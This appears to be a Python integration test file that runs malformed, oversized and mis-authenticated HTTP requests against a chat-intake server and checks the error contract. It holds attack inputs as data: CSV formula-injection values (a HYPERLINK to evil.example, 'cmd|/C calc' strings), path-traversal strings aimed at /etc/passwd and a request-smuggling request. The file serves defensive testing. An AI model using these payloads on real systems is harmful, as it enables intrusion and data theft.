"""test_hostile.py: hold under hostile input.  A battery of malformed,
oversized, mis-typed, mis-routed and mis-authenticated requests over HTTP
against the real intake.fcgi, under lighttpd (mod_fastcgi) and under
Apache as plain CGI (one class per server, through a mixin).

For every case: the status and the error code of the contract
(DESIGN.md, "HTTP contract (v1)"), Content-Type application/json with the
body {"error":{"code","message"}} (except where the web server itself
refuses before the program runs: then a 4xx and nothing else), and every
stored row unchanged (conversations, messages, message_parts, jobs, leads,
lead_fields, extractions; rate_limits changes on counted requests and is
left out).  After every test the server still answers /api/health 200,
PRAGMA integrity_check is "ok", no FastCGI process was replaced (a crash)
and the harness finds no sanitizer report in the logs.

Rate limits (INTAKE_RATE_CONVERSATIONS / INTAKE_RATE_MESSAGES) get servers
of their own, under lighttpd and under CGI (a new process per request: the
count must live in the database), and so does the per-conversation turn
cap (INTAKE_MAX_TURNS).

    make test-build && BUILD=build/test python3 tests/integration/test_hostile.py

The last line printed is "integration_hostile: N passed, N failed".
"""

import csv
import io
import json
import os
import secrets
import socket
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.dont_write_bytecode = True

import harness  # noqa: E402
from harness import (  # noqa: E402
    Response, ServerTestCase, collect, delta_text, main)

ADMIN = "admin-" + secrets.token_urlsafe(24)
TABLES = ("conversations", "messages", "message_parts", "jobs", "leads",
          "lead_fields", "extractions")
CODES = {400: "bad_request", 401: "unauthorized", 404: "not_found",
         405: "method_not_allowed", 409: "turn_in_progress",
         413: "too_large", 415: "unsupported_media_type",
         429: "rate_limited", 503: "unavailable"}
PROMPT = 3.0            # "promptly": a refusal that does not wait on a body
JSON_CT = "application/json"


def setUpModule():
    # Extractors are double-forked: adopt and reap them here rather than
    # leave zombies under a PID 1 that may not reap.
    harness.become_subreaper()


def tearDownModule():
    harness.reap_adopted()


# --------------------------------------------------------------------------
# helpers on a Server

def snapshot(srv, tables=TABLES):
    """Every stored row of the given tables."""
    c = srv.db()
    try:
        return {t: [tuple(r) for r in c.execute(
                    "SELECT * FROM %s ORDER BY 1, 2" % t)]
                for t in tables}
    finally:
        c.close()


def quiesce(srv, timeout=20.0):
    """See Server.quiesce."""
    srv.quiesce(timeout)


def raw_exchange(port, data, half_close=False, timeout=harness.SOCK_TIMEOUT):
    """Send raw bytes; (status, headers, body) of the answer."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    sock.settimeout(timeout)
    try:
        sock.sendall(data)
        if half_close:
            sock.shutdown(socket.SHUT_WR)
        r = Response(sock, "POST")
        body = r.read_body()
        return r.status, r.headers, body
    finally:
        sock.close()


class Checks:
    """Assertions mixed into the test classes."""

    fcgi_pid_set = None         # lighttpd's intake.fcgi pids at the start

    def check_error(self, status, headers, body, want_status, want_code=None,
                    what=""):
        """An error answer of the program: status, JSON content type, and
        {"error":{"code":..., "message":...}} with the contract's code."""
        want_code = want_code or CODES[want_status]
        self.assertEqual(status, want_status, "%s: want %d %s, got %d: %r" % (
            what, want_status, want_code, status, body[:300]))
        ct = headers.get("content-type", "")
        self.assertTrue(ct.split(";")[0].strip() == JSON_CT,
                        "%s: error Content-Type is %r (body %r)" % (
                            what, ct, body[:200]))
        try:
            obj = json.loads(body.decode("utf-8"))
        except ValueError:
            self.fail("%s: error body is not JSON: %r" % (what, body[:300]))
        self.assertIsInstance(obj, dict, what)
        self.assertEqual(set(obj), {"error"}, "%s: %r" % (what, body))
        err = obj["error"]
        self.assertIsInstance(err, dict, what)
        self.assertEqual(err.get("code"), want_code, "%s: %r" % (what, body))
        self.assertIsInstance(err.get("message"), str, what)
        self.assertTrue(err["message"], "%s: empty message" % what)
        return obj

    def check_refused(self, status, headers, body, allowed=None, what=""):
        """Refused, by the program or by the web server before it: a 4xx
        (one of allowed, when given); when the answer is the program's
        JSON, it is the contract's error object for that status."""
        self.assertTrue(400 <= status < 500, "%s: want a 4xx, got %d: %r" % (
            what, status, body[:300]))
        if allowed is not None:
            self.assertIn(status, allowed, "%s: got %d: %r" % (
                what, status, body[:200]))
        if headers.get("content-type", "").startswith(JSON_CT):
            self.check_error(status, headers, body, status, what=what)
        self.assertNotIn(b"root:", body, what)

    # the server still answers and the data is whole
    def check_alive(self):
        srv = self.server
        status, headers, body = srv.call("GET", "/api/health")
        self.assertEqual(status, 200, "health after the test: %d %r" % (
            status, body[:200]))
        self.assertEqual(json.loads(body), {"ok": True})
        if not harness.PG:     # SQLite's own check of its file
            c = srv.db()
            try:
                self.assertEqual([tuple(r) for r in c.execute(
                    "PRAGMA integrity_check")], [("ok",)], "integrity_check")
            finally:
                c.close()
        if srv.server == "lighttpd" and self.fcgi_pid_set:
            # The one intake.fcgi lighttpd spawned still serves: a crash
            # would show as a respawned process with a new pid.
            self.assertEqual(set(srv.fcgi_pids()), self.fcgi_pid_set,
                             "the FastCGI process changed (crashed?)")


# --------------------------------------------------------------------------
# the battery

CSV_CONV = "csvLead0123456789abcdefgh"
CSV_VALUES = {
    "full_name": '=HYPERLINK("http://evil.example/?q="&A1,"Click me")',
    "phone": "+15551234567",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "matter_type": "-2+3+cmd|' /C calc'!A0",
    "urgency": "high",
    "summary": "\t=1+1\r\nsecond line, \"quoted\"",
}
CSV_DEFUSED = {k: ("'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r")
                   else v) for k, v in CSV_VALUES.items()}


class Hostile(Checks):
    server_env = {"INTAKE_ADMIN_TOKEN": ADMIN}
    word_delay_ms = 0
    fcgi_pid_set = None

    @classmethod
    def before_start(cls, srv):
        """A lead whose fields a spreadsheet would run as formulas."""
        now = "2026-01-01T00:00:00.000Z"
        c = srv.db_rw()
        try:
            with c:
                c.execute("INSERT INTO conversations (id, token, client_addr,"
                          " created_at, updated_at) VALUES (?, ?, ?, ?, ?)",
                          (CSV_CONV, secrets.token_urlsafe(32), "127.0.0.1",
                           now, now))
                c.execute("INSERT INTO leads (conversation_id, created_at, "
                          "updated_at) VALUES (?, ?, ?)", (CSV_CONV, now, now))
                for field, value in CSV_VALUES.items():
                    c.execute("INSERT INTO lead_fields (conversation_id, "
                              "field, value, strength, turn, source, "
                              "updated_at) VALUES (?, ?, ?, 2, 1, 'rules', ?)",
                              (CSV_CONV, field, value, now))
        finally:
            c.close()

    @classmethod
    def prepare(cls):
        srv = cls.server
        cls.conv, cls.token = srv.create_conversation()
        cls.other, cls.other_token = srv.create_conversation()
        srv.turn(cls.conv, cls.token, "Hi, my name is Jane Doe and my number "
                 "is 555 123 4567. I slipped at a grocery store.")
        quiesce(srv)
        if srv.server == "lighttpd":
            cls.fcgi_pid_set = set(srv.fcgi_pids())
            if not cls.fcgi_pid_set:
                raise harness.HarnessError("no intake.fcgi under lighttpd")

    def tearDown(self):
        try:
            if self.server is not None:
                self.check_alive()
        finally:
            super().tearDown()

    # --- helpers
    @property
    def msg_path(self):
        return "/api/conversations/%s/messages" % self.conv

    def post_body(self, body, content_type=JSON_CT, token=None, path=None,
                  headers=None, **kw):
        h = {"Authorization": "Bearer %s" % (token or self.token)}
        if headers:
            h.update(headers)
        return self.server.call("POST", path or self.msg_path, body, h,
                                content_type=content_type, **kw)

    def exchange(self, call, what):
        """call() -> (status, headers, body); a connection that ends
        without a whole HTTP answer fails the test (not an error)."""
        try:
            return call()
        except (harness.HarnessError, OSError) as e:
            self.fail("%s: no complete HTTP answer: %s" % (what, e))

    def expect(self, want_status, call, what, want_code=None):
        """Run call() -> (status, headers, body); the program's error and
        no stored row changed."""
        before = snapshot(self.server)
        status, headers, body = self.exchange(call, what)
        self.check_error(status, headers, body, want_status, want_code,
                         what=what)
        self.assertEqual(snapshot(self.server), before,
                         "%s: stored data changed" % what)
        return status, headers, body

    def expect_body(self, want_status, body, what, **kw):
        return self.expect(want_status, lambda: self.post_body(body, **kw),
                           what)

    def expect_refused(self, call, what, allowed=None):
        before = snapshot(self.server)
        status, headers, body = self.exchange(call, what)
        self.check_refused(status, headers, body, allowed, what=what)
        self.assertEqual(snapshot(self.server), before,
                         "%s: stored data changed" % what)
        return status, headers, body

    # --- the message body
    def test_malformed_json(self):
        cases = [
            b'{"text":"hi"', b'{"text":"hi', b'{"text":', b'{',
            b'{"text":"hi"} trailing', b'{"text":"hi"}{"text":"again"}',
            b'{"text":"hi"},', b"{'text':'hi'}", b'{text:"hi"}',
            b'{"text":NaN}', b'{"text":"hi","n":NaN}',
            b'{"text":"hi","n":Infinity}', b'{"text":"hi","n":-Infinity}',
            b'{"text":"hi","n":1e999999}', b'{"text":"hi","n":-1e999999}',
            b'{"text":"hi","n":123456789012345678901234567890}',
            b'{"text":"hi","n":0x10}', b'{"text":"hi",}',
            b'{"text":"hi" "x":1}', b'{"text":"a\\qb"}',
            b'{"text":"a\\u12"}', b'{"text":"a\nb"}',   # raw control char
            b'{"text":"a","text":"b"}',                 # duplicate key
            b'', b' ', b'\xef\xbb\xbf{"text":"hi"}',    # BOM
            b'/* c */ {"text":"hi"}', b'{"text":"hi"} // c',
        ]
        for body in cases:
            with self.subTest(body=body[:40]):
                self.expect_body(400, body, "body %r" % body[:40])

    def test_nesting_too_deep(self):
        t0 = time.monotonic()
        cases = [
            ("object + 16 arrays (17 deep)",
             b'{"text":"hi","a":' + b"[" * 16 + b"]" * 16 + b"}"),
            ("17 arrays", b"[" * 17 + b"]" * 17),
            ("17 objects", b'{"a":' * 16 + b'{"text":"hi"}' + b"}" * 16),
            ("60000 x [", b"[" * 60000),
            ("30000 x {\"a\":", b'{"a":' * 13000),
            # an escaped backslash ends the string: the brackets count
            ("18 deep after an escaped backslash",
             b'{"text":"x\\\\","a":' + b"[" * 17 + b"]" * 17 + b"}"),
        ]
        for what, body in cases:
            with self.subTest(what=what):
                t = time.monotonic()
                self.expect_body(400, body, what)
                self.assertLess(time.monotonic() - t, PROMPT, what)
        with self.subTest(what="100000 x [ (over the body limit)"):
            self.expect_body(413, b"[" * 100000, "100000 x [")
        self.assertLess(time.monotonic() - t0, 30)

    def test_nesting_16_and_client_id_64_accepted(self):
        """The boundaries: the refusals above are not of everything."""
        conv, token = self.server.create_conversation()
        # 16 deep, and brackets inside a string do not count
        body = (b'{"text":"Hello there ' + b"[{" * 100 + b'","a":' +
                b"[" * 15 + b"]" * 15 + b"}")
        r = self.server.request("POST", "/api/conversations/%s/messages" %
                                conv, body, self.server.auth(token),
                                content_type=JSON_CT)
        try:
            self.assertEqual(r.status, 200, r.read_body()[:300]
                             if r.status != 200 else "")
            events = collect(r)
        finally:
            r.close()
        self.assertEqual(events[-1].event, "done", events[-1:])
        r, events = self.server.turn(conv, token, "And again", client_id="é" *
                                     64)
        self.assertEqual(events[-1].data, {"status": "complete"})
        self.assertEqual(self.server.counts(conv), (1, 4, 0))
        quiesce(self.server)

    def test_not_an_object(self):
        for body in (b"[]", b'["text","hi"]', b'[{"text":"hi"}]', b'"hi"',
                     b'"{\\"text\\":\\"hi\\"}"', b"null", b"42", b"true",
                     b"false", b"-0.5"):
            with self.subTest(body=body):
                self.expect_body(400, body, "body %r" % body)

    def test_text_missing_empty_or_not_a_string(self):
        for body in ({}, {"client_id": "abc"}, {"Text": "hi"},
                     {"text ": "hi"}, {"text": ""}, {"text": " "},
                     {"text": " \t\r\n  \n"}, {"text": 42}, {"text": 0},
                     {"text": 1.5}, {"text": ["hi"]}, {"text": []},
                     {"text": {"text": "hi"}}, {"text": None},
                     {"text": True}, {"text": False}):
            raw = json.dumps(body).encode()
            with self.subTest(body=raw):
                self.expect_body(400, raw, "body %r" % raw)

    def test_invalid_utf8(self):
        cases = [
            ("overlong '/' (C0 AF)", b'{"text":"a\xc0\xafb"}'),
            ("overlong NUL (C0 80)", b'{"text":"a\xc0\x80b"}'),
            ("overlong 3-byte (E0 80 AF)", b'{"text":"a\xe0\x80\xafb"}'),
            ("overlong 4-byte (F0 80 80 AF)",
             b'{"text":"a\xf0\x80\x80\xafb"}'),
            ("raw surrogate (ED A0 80)", b'{"text":"a\xed\xa0\x80b"}'),
            ("above U+10FFFF (F4 90 80 80)", b'{"text":"a\xf4\x90\x80\x80b"}'),
            ("raw FF", b'{"text":"a\xffb"}'),
            ("raw FE", b'{"text":"\xfe"}'),
            ("lone continuation (80)", b'{"text":"a\x80b"}'),
            ("truncated sequence (C3)", b'{"text":"a\xc3"}'),
            ("truncated at end of body", b'{"text":"hi"}\xe2\x82'),
            ("latin-1 e-acute", b'{"text":"caf\xe9"}'),
            ("invalid in a key", b'{"te\xffxt":"hi","text":"hi"}'),
            ("invalid in client_id", b'{"text":"hi","client_id":"a\xffb"}'),
            ("lone high surrogate escape", b'{"text":"a\\ud800b"}'),
            ("lone low surrogate escape", b'{"text":"a\\udc00b"}'),
            ("reversed surrogate pair", b'{"text":"\\udc00\\ud800"}'),
            ("high surrogate at the end", b'{"text":"\\ud83d"}'),
            ("surrogate escape in client_id",
             b'{"text":"hi","client_id":"\\ud800"}'),
        ]
        for what, body in cases:
            with self.subTest(what=what):
                self.expect_body(400, body, what)

    def test_nul_bytes(self):
        cases = [
            ("raw NUL in text", b'{"text":"a\x00b"}'),
            ("escaped NUL in text", b'{"text":"a\\u0000b"}'),
            ("only an escaped NUL", b'{"text":"\\u0000"}'),
            ("raw NUL after the JSON", b'{"text":"hi"}\x00'),
            ("raw NUL before the JSON", b'\x00{"text":"hi"}'),
            ("escaped NUL in a key", b'{"te\\u0000xt":"hi","text":"hi"}'),
            ("escaped NUL in client_id",
             b'{"text":"hi","client_id":"a\\u0000b"}'),
        ]
        for what, body in cases:
            with self.subTest(what=what):
                self.expect_body(400, body, what)

    def test_text_too_long(self):
        for what, text in (("8001 ASCII", "a" * 8001),
                           ("8001 two-byte", "é" * 8001),
                           ("8001 four-byte", "\U0001F600" * 8001),
                           ("8000 then a space", "b" * 8000 + " ")):
            body = json.dumps({"text": text}, ensure_ascii=False).encode()
            with self.subTest(what=what):
                self.expect_body(413, body, what)
        # escaped: 8001 characters written as \u00e9 (48 KB of body)
        body = json.dumps({"text": "é" * 8001}).encode()
        self.assertLess(len(body), 65536)
        self.expect_body(413, body, "8001 escaped characters")

    def test_body_over_64k(self):
        """65537 bytes of well-formed JSON: 413 too_large."""
        head, tail = b'{"text":"hi","pad":"', b'"}'
        body = head + b"x" * (65537 - len(head) - len(tail)) + tail
        self.assertEqual(len(body), 65537)
        self.expect_body(413, body, "a body of 65537 bytes")
        body = head + b"x" * (200000 - len(head) - len(tail)) + tail
        self.expect_body(413, body, "a body of 200000 bytes")

    def test_body_over_64k_refused_before_read(self):
        """Content-Length 10000000 and four bytes sent: 413 at once, not
        after waiting for a body that never comes (the web server's own
        413 is allowed here)."""
        before = snapshot(self.server)
        t = time.monotonic()
        try:
            status, headers, body = self.post_body(
                b'{"te', content_length=10000000, timeout=PROMPT + 0.5)
        except harness.HarnessError as e:
            self.fail("no answer within %.1f s to Content-Length 10000000 "
                      "(the body is read or waited for): %s" %
                      (PROMPT + 0.5, e))
        took = time.monotonic() - t
        self.assertEqual(status, 413, body[:300])
        if headers.get("content-type", "").startswith(JSON_CT):
            self.check_error(status, headers, body, 413)
        self.assertLess(took, PROMPT)
        self.assertEqual(snapshot(self.server), before)

    def test_client_id_bad(self):
        for what, cid in (("65 ASCII", "c" * 65), ("65 two-byte", "é" * 65),
                          ("1000", "x" * 1000), ("empty", ""), ("number", 42),
                          ("array", ["a"]), ("object", {"a": "b"}),
                          ("true", True), ("a newline", "a\nb"),
                          ("a tab", "a\tb"), ("DEL", "a\x7fb"),
                          ("escape char", "\x1b[31m")):
            body = json.dumps({"text": "hi", "client_id": cid},
                              ensure_ascii=False).encode()
            with self.subTest(what=what):
                self.expect_body(400, body, "client_id %s" % what)

    def test_content_type_wrong_or_missing(self):
        body = b'{"text":"Hello, I need help."}'
        for ct in (None, "text/plain", "application/x-www-form-urlencoded",
                   "multipart/form-data; boundary=xyz",
                   "application/json; charset=latin1",
                   "application/json; charset=iso-8859-1",
                   "application/json; charset=utf-16",
                   "application/json; charset=utf-88",
                   "application/jsonp", "application/json-seq",
                   "application/json, text/plain", "text/json",
                   "application/ld+json", "json", ""):
            with self.subTest(content_type=ct):
                self.expect_body(415, body, "Content-Type %r" % ct,
                                 content_type=ct)

    # --- paths, ids, methods
    def test_unknown_paths(self):
        A = self.server.auth(self.token)
        c = self.conv
        for method, path in (
                ("GET", "/api/nope"), ("POST", "/api/nope"),
                ("GET", "/api/"), ("GET", "/api/health/"),
                ("GET", "/api/HEALTH"), ("POST", "/api/Conversations"),
                ("GET", "/api/conversations/x/y/z"),
                ("POST", "/api/conversations/x/y/z"),
                ("GET", "/api/conversations/"),
                ("POST", "/api/conversations/"),
                ("GET", "/api/conversations/%s/" % c),
                ("POST", "/api/conversations/%s/messages/" % c),
                ("POST", "/api/conversations/%s/messages/x" % c),
                ("GET", "/api/conversations/%s/events/" % c),
                ("POST", "/api/conversations/%s/cancel/x" % c),
                ("GET", "/api/leads/"), ("GET", "/api/leads/a/b")):
            with self.subTest(method=method, path=path[:60]):
                self.expect(404, lambda: self.server.call(
                    method, path, b"{}" if method == "POST" else None, A,
                    content_type=JSON_CT if method == "POST" else None),
                    "%s %s" % (method, path[:60]))
        # Paths a web server may rewrite (merged slashes: the id becomes
        # "messages") or refuse itself (a 5000-byte name: Apache's 403).
        for method, path in (("POST", "/api/conversations//messages"),
                             ("GET", "/api/conversations/%s//" % c),
                             ("GET", "/api/nope/" + "a" * 5000),
                             ("POST", "/api/conversations/%s/%s" % (
                                 c, "m" * 5000))):
            with self.subTest(method=method, path=path[:60]):
                self.expect_refused(lambda: self.server.call(
                    method, path, b"{}" if method == "POST" else None, A,
                    content_type=JSON_CT if method == "POST" else None),
                    "%s %s" % (method, path[:60]))

    def test_ids_with_bad_characters(self):
        A = self.server.auth(self.token)
        ids = ["%C3%A9t%C3%A9", "a.b", "a%20b", "a;b", "*", "a%2Cb", "%27",
               "a" * 65, "Z" * 300, "%252e%252e", "a%3Fb", "%22%3E%3Cx%3E"]
        every = (("GET", ""), ("POST", "/messages"), ("GET", "/events"),
                 ("POST", "/cancel"))
        for i, bad in enumerate(ids):
            # every route for the first ids, the two main ones after
            for method, tail in every if i < 3 else every[:2]:
                path = "/api/conversations/%s%s" % (bad, tail)
                with self.subTest(path=path[:70]):
                    self.expect(404, lambda: self.server.call(
                        method, path, b'{"text":"hi"}' if method == "POST"
                        else None, A, content_type=JSON_CT
                        if method == "POST" else None),
                        "%s %s" % (method, path[:70]))
        # a well-formed id that does not exist, with a real token
        self.expect(404, lambda: self.server.call(
            "GET", "/api/conversations/" + "Q" * 22, None, A), "unknown id")
        # ids the web server may normalise first: refused either way
        for bad in ("..", "%2e%2e", ".", "%2e", "..%00", "%00", "a%00b"):
            path = "/api/conversations/%s/messages" % bad
            with self.subTest(path=path):
                self.expect_refused(lambda: self.server.call(
                    "POST", path, b'{"text":"hi"}', A, content_type=JSON_CT),
                    path)

    def test_raw_bytes_in_path(self):
        """A raw non-ASCII byte and a raw space in the request line."""
        A = "Authorization: Bearer %s\r\n" % self.token
        for target in (b"/api/conversations/\xe9t\xe9",
                       b"/api/conversations/\xff/messages",
                       b"/api/conversations/a\x01b"):
            req = (b"GET " + target + b" HTTP/1.1\r\nHost: x\r\n" +
                   A.encode() + b"Connection: close\r\n\r\n")
            with self.subTest(target=target):
                self.expect_refused(lambda: raw_exchange(self.server.port,
                                                         req), repr(target))

    def test_methods_not_allowed(self):
        c = self.conv
        routes = (("/api/health", "GET"), ("/api/conversations", "POST"),
                  ("/api/conversations/%s" % c, "GET, DELETE"),
                  ("/api/conversations/%s/messages" % c, "POST"),
                  ("/api/conversations/%s/events" % c, "GET"),
                  ("/api/conversations/%s/cancel" % c, "POST"),
                  ("/api/leads", "GET"), ("/api/leads/%s" % c, "GET, PATCH"),
                  ("/api/disclosure", "GET"))
        for path, allow in routes:
            others = [m for m in ("PUT", "DELETE", "PATCH", "POST", "GET")
                      if m not in allow.split(", ")]
            for method in others:
                # the visitor's token; the admin's on the admin paths
                for auth in ((ADMIN,) if "/leads" in path else
                             (self.token,)):
                    with self.subTest(method=method, path=path,
                                      admin=auth == ADMIN):
                        body = (b'{"text":"hi"}' if method in
                                ("PUT", "PATCH", "POST") else None)
                        _, headers, _ = self.expect(405, lambda: (
                            self.server.call(
                                method, path, body, self.server.auth(auth),
                                content_type=JSON_CT if body else None)),
                            "%s %s" % (method, path))
                        self.assertEqual(headers.get("allow"), allow,
                                         "Allow of %s %s" % (method, path))

    def test_traversal(self):
        A = self.server.auth(self.token)
        c = self.conv
        for path in ("/api/../x", "/api/../intake.db",
                     "/api/conversations/../leads",
                     "/api/conversations/%s/../../leads" % c,
                     "/api/%2e%2e/etc/passwd", "/api/%2e%2e/%2e%2e/etc/passwd",
                     "/api/conversations/%2F..%2Fleads",
                     "/api/conversations/..%2F..%2Fleads",
                     "/api/conversations/a%2Fb",
                     "/api/leads%2F..%2F..%2Fetc%2Fpasswd",
                     "/api/conversations/%2e%2e%2f%2e%2e%2fleads",
                     "/api/..;/leads", "/api/.%2e/leads",
                     "/api/conversations/%5c..%5cleads",
                     "/api//../leads"):
            for method in ("GET", "POST"):
                with self.subTest(method=method, path=path):
                    self.expect_refused(lambda: self.server.call(
                        method, path, b'{"text":"hi"}' if method == "POST"
                        else None, A, content_type=JSON_CT
                        if method == "POST" else None),
                        "%s %s" % (method, path))
        # with the admin token a traversal to a lead id still finds none
        for path in ("/api/leads/..%2F..%2Fetc%2Fpasswd",
                     "/api/leads/%2e%2e", "/api/leads/" + "%2e" * 40):
            with self.subTest(path=path):
                self.expect_refused(lambda: self.server.call(
                    "GET", path, None, self.server.auth(ADMIN)), path)

    # --- headers
    def test_oversized_headers(self):
        A = self.server.auth(self.token)
        # one header of 64 KB: the web server refuses it itself
        self.expect_refused(lambda: self.server.call(
            "GET", "/api/conversations/%s" % self.conv, None,
            dict(A, **{"X-Big": "a" * 65536})), "a 64 KB header",
            allowed=(400, 413, 431))
        # a 64 KB Authorization header
        self.expect_refused(lambda: self.server.call(
            "GET", "/api/conversations/%s" % self.conv, None,
            {"Authorization": "Bearer " + "t" * 65536}),
            "a 64 KB Authorization", allowed=(400, 401, 413, 431))
        # a 64 KB Content-Type on a message
        self.expect_refused(lambda: self.post_body(
            b'{"text":"hi"}', content_type="application/json; x=" +
            "y" * 65536), "a 64 KB Content-Type", allowed=(400, 413, 415, 431))
        # many headers: refused by the web server, or answered normally
        before = snapshot(self.server)
        many = dict(A, **{"X-H%d" % i: "v" * 20 for i in range(300)})
        status, headers, body = self.server.call(
            "GET", "/api/conversations/%s" % self.conv, None, many)
        if status == 200:
            self.assertEqual(json.loads(body)["id"], self.conv)
        else:
            self.check_refused(status, headers, body, (400, 413, 431),
                               "300 headers")
        self.assertEqual(snapshot(self.server), before)

    def test_long_tokens_reach_the_program(self):
        """Long but acceptable to the web server: the program's 401."""
        c = self.conv
        self.expect(401, lambda: self.server.call(
            "GET", "/api/conversations/%s" % c, None,
            {"Authorization": "Bearer " + "t" * 6000}), "6000-char bearer")
        self.expect(401, lambda: self.post_body(
            b'{"text":"hi"}', token="t" * 6000), "6000-char bearer, message")
        for n in (255, 256, 257, 300, 4000):
            with self.subTest(query_token=n):
                self.expect(401, lambda: self.server.call(
                    "GET", "/api/conversations/%s/events?token=%s" % (
                        c, "t" * n), None), "?token= of %d chars" % n)
        # the real token with junk after it, in the query
        self.expect(401, lambda: self.server.call(
            "GET", "/api/conversations/%s/events?token=%s%s" % (
                c, self.token, "x" * 300), None), "token + 300 chars")
        self.expect(401, lambda: self.server.call(
            "GET", "/api/leads", None, {"Authorization": "Bearer " +
                                        ADMIN + "x" * 5000}),
            "admin token + 5000 chars")

    def test_proxy_header_ignored(self):
        proxy = {"Proxy": "http://127.0.0.1:9/"}
        status, headers, body = self.server.call("POST", "/api/conversations",
                                                 None, proxy)
        self.assertEqual(status, 201, body[:300])
        conv = json.loads(body)
        r = self.server.post_message(conv["id"], conv["token"],
                                     "Hello, I need a lawyer.",
                                     headers=proxy)
        try:
            self.assertEqual(r.status, 200)
            events = collect(r)
        finally:
            r.close()
        self.assertEqual(events[-1].data, {"status": "complete"})
        self.assertTrue(delta_text(events))
        status, _, body = self.server.call(
            "GET", "/api/conversations/%s" % conv["id"], None,
            dict(self.server.auth(conv["token"]), **proxy))
        self.assertEqual(status, 200)
        self.assertEqual(len(json.loads(body)["messages"]), 2)
        quiesce(self.server)

    def test_bad_content_length(self):
        for what, cl, allowed in (("negative", "-1", None),
                                  ("not a number", "abc", None),
                                  ("exponent", "1e3", None),
                                  ("hex", "0x10", None),
                                  ("overflowing", "99999999999999999999999",
                                   None)):
            with self.subTest(what=what):
                self.expect_refused(lambda: self.post_body(
                    b'{"text":"hi"}', headers={"Content-Length": cl}),
                    "Content-Length %s" % what, allowed)
        # a body shorter than its Content-Length, then the client half-closes
        req = ("POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"
               "Content-Type: application/json\r\nContent-Length: 100\r\n"
               "Connection: close\r\n\r\n" % (self.msg_path, self.token)
               ).encode() + b'{"text":"hi"}'
        before = snapshot(self.server)
        t = time.monotonic()
        try:
            status, headers, body = raw_exchange(
                self.server.port, req, half_close=True, timeout=10)
        except harness.HarnessError as e:
            # closing without an answer is fair: the client left
            self.assertNotIn("timeout", str(e))
        else:
            self.check_refused(status, headers, body,
                               what="short body, half-closed")
        self.assertLess(time.monotonic() - t, 10)
        self.assertEqual(snapshot(self.server), before)
        # Content-Length and chunked together (request smuggling)
        req = ("POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"
               "Content-Type: application/json\r\nContent-Length: 4\r\n"
               "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
               "5\r\n{\"te\r\n0\r\n\r\n" % (self.msg_path, self.token)
               ).encode()
        self.expect_refused(lambda: raw_exchange(self.server.port, req),
                            "Content-Length with chunked")

    # --- tokens and auth
    def test_tokens(self):
        c, other = self.conv, self.other
        A, B = self.server.auth(self.token), self.server.auth(self.other_token)
        wrong = self.server.auth(secrets.token_urlsafe(32))
        for what, h, q in (("no token", {}, ""), ("wrong token", wrong, ""),
                           ("another conversation's token", B, ""),
                           ("token + x", self.server.auth(self.token + "x"),
                            ""),
                           ("token truncated",
                            self.server.auth(self.token[:-1]), ""),
                           ("token in the query", {}, "?token=" + self.token)):
            for method, tail in (("GET", ""), ("POST", "/messages"),
                                 ("POST", "/cancel")):
                path = "/api/conversations/%s%s%s" % (c, tail, q)
                with self.subTest(what=what, path=tail):
                    self.expect(401, lambda: self.server.call(
                        method, path, b'{"text":"hi"}' if tail == "/messages"
                        else (b"" if method == "POST" else None), h,
                        content_type=JSON_CT if method == "POST" else None),
                        "%s: %s %s" % (what, method, tail))
        for what, h, q in (("no token", {}, ""), ("wrong token", wrong, ""),
                           ("other's token", B, ""),
                           ("other's token in the query", {},
                            "?token=" + self.other_token),
                           ("empty query token", {}, "?token="),
                           ("wrong query token", {}, "?token=abc")):
            with self.subTest(what=what, path="/events"):
                self.expect(401, lambda: self.server.call(
                    "GET", "/api/conversations/%s/events%s" % (c, q), None, h),
                    "events: %s" % what)
        # each token opens its own conversation and no other
        status, _, body = self.server.call(
            "GET", "/api/conversations/%s" % other, None, A)
        self.check_error(status, {"content-type": JSON_CT}, body, 401)
        status, _, body = self.server.call(
            "GET", "/api/conversations/%s" % other, None, B)
        self.assertEqual(status, 200)
        # the query token is good for the events stream alone
        r = self.server.events(c, query_token=self.token)
        try:
            self.assertEqual(r.status, 200)
            events = collect(r)
        finally:
            r.close()
        self.assertEqual(events[-1].event, "done", events[-2:])

    def test_authorization_schemes(self):
        path = "/api/conversations/%s" % self.conv
        tok = self.token
        for what, value in (("Basic", "Basic " + tok),
                            ("Basic, base64", "Basic " + __import__(
                                "base64").b64encode(("x:" + tok).encode())
                             .decode()),
                            ("Bearer with no token", "Bearer"),
                            ("Bearer and a space", "Bearer "),
                            ("Bearer and spaces", "Bearer    "),
                            ("Token scheme", "Token " + tok),
                            ("no scheme", tok),
                            ("Bearer glued", "Bearer" + tok),
                            ("two tokens",
                             "Bearer %s, Bearer %s" % (tok, tok)),
                            ("Bearer then junk", "Bearer %s junk" % tok),
                            ("Digest", "Digest username=\"x\"")):
            with self.subTest(what=what):
                self.expect(401, lambda: self.server.call(
                    "GET", path, None, {"Authorization": value}), what)
        # The scheme is case-insensitive (RFC 7235 section 2.1): accepted.
        for value in ("bearer " + tok, "BEARER " + tok, "Bearer  " + tok):
            with self.subTest(accepted=value[:8]):
                status, _, body = self.server.call(
                    "GET", path, None, {"Authorization": value})
                self.assertEqual(status, 200, body[:200])
                self.assertEqual(json.loads(body)["id"], self.conv)

    def test_admin_endpoints_refuse(self):
        import base64
        paths = ("/api/leads", "/api/leads?format=csv",
                 "/api/leads/%s" % self.conv, "/api/leads/%s" % CSV_CONV)
        for what, h, q in (
                ("no auth", {}, ""),
                ("visitor token", self.server.auth(self.token), ""),
                ("wrong admin token", self.server.auth(ADMIN[:-1] + "#"), ""),
                ("admin token + x", self.server.auth(ADMIN + "x"), ""),
                ("admin prefix", self.server.auth(ADMIN[:10]), ""),
                ("admin token in the query", {}, "token=" + ADMIN),
                ("Basic admin", {"Authorization": "Basic " + base64.b64encode(
                    ("admin:" + ADMIN).encode()).decode()}, ""),
                ("Remote-User header", {"Remote-User": "admin"}, ""),
                ("X-Remote-User header", {"X-Remote-User": "admin"}, ""),
                ("empty bearer", {"Authorization": "Bearer "}, "")):
            for path in paths:
                full = path + (("&" if "?" in path else "?") + q if q else "")
                with self.subTest(what=what, path=full[:40]):
                    self.expect(401, lambda: self.server.call(
                        "GET", full, None, h), "%s %s" % (what, path))
